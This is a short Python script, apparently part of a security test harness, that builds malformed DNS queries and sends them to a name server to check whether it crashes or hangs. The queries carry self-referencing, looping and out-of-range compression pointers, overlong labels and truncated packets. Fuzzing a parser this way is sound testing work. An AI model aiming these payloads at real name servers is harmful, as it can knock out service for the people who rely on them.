# SPDX-License-Identifier: Apache-2.0
# Trick: names with pointers: to themselves, in circles, forward, into the header
# Gain: a parser that runs in circles, or reads two names in one
# Control: none, it is aimed at the gate
from trick import *

head = struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0)
end = struct.pack("!HH", 1, 1)
for name in (b"\xc0\x0c", b"\xc0\x0e\xc0\x0c", b"\x03api\xc0\x0c", b"\xc0\xff", b"\xff\xff", b"\xc0\x00", b"\x40" + b"a" * 64 + b"\0",
             b"\x03api\xc0\x1a" + end + b"\x07example\x03com\0", b"\x3f" + b"a" * 20, b"\x03api" * 200 + b"\0", b"\x80\0"):
    ask(head + name + end, wait=0.05)
    ask(head + name, wait=0.05)
for n in range(12, 30):
    ask((head + qname("api.example.com") + end)[:n], wait=0.01)
if not alive(3):
    escaped("the name server is gone")
stopped("the name server lives")
